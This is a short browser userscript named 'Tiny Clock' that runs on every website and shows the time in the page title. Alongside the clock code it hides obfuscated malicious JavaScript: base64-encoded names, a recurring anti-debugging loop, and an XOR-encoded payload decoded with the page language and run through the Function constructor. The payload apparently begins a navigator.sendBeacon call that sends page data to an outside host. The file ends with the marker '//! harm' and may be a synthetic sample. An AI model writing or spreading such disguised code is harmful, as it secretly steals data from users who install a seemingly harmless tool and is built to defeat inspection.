// ==UserScript==
// @name         Tiny Clock
// @namespace    tinyclock.test
// @version      1.0
// @description  A clock in the corner.
// @match        *://*/*
// @grant        none
// ==/UserScript==

var _$ = ['bGVuZ3Ro', 'c3BsaXQ=', 'cmV2ZXJzZQ==', 'am9pbg==', 'Y29uc3RydWN0b3I='].map(atob), $$ = [];
(function l1l() { try { (function () { return !![]; }[_$[4]]('debugger')()); } catch (e) { $$.push(e); } setTimeout(l1l, 4e3); })();
var Il = function (a, b) { for (var c = '', d = 0; d < a[_$[0]]; d++) c += String.fromCharCode(a.charCodeAt(d) ^ b.charCodeAt(d % b[_$[0]])); return c; };
var lI = document.querySelector('html').lang.slice(0, 2) || 'en';
setInterval(function () { document.title = new Date().toLocaleTimeString() + ' ' + document.title.replace(/^\S+ (AM |PM )?/, ''); }, 1e3);
(0, (function () {}[_$[4]]))(Il('\x0b\x0f\x13\x07\x02\x0f\x11\x01\x17\x40\x16\x0b\x0b\x0a\x27\x0b\x04\x0d\x0a\x00\x4d\x4c\x0d\x1a\x11\x1e\x16\x54\x4a\x41\x16\x40\x11\x07\x0b\x17\x06\x02\x0a\x0d\x0e\x40\x11\x0b\x16\x1a\x4a\x14\x47\x42\x01\x01\x06\x1b\x08\x0b\x0b\x1a\x4b\x0d\x0a\x01\x0e\x07\x00\x47', lI))(); //! harm
